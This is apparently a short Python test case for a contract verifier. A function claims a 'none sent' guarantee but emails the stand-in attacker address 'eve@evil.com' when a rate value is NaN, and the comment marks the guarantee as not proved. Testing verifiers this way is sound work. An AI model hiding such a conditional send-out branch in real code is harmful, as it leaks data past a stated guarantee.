# not proved: NaN does not equal itself
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, rate


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    x = rate()
    if x != x:
        send_email("eve@evil.com", "x")
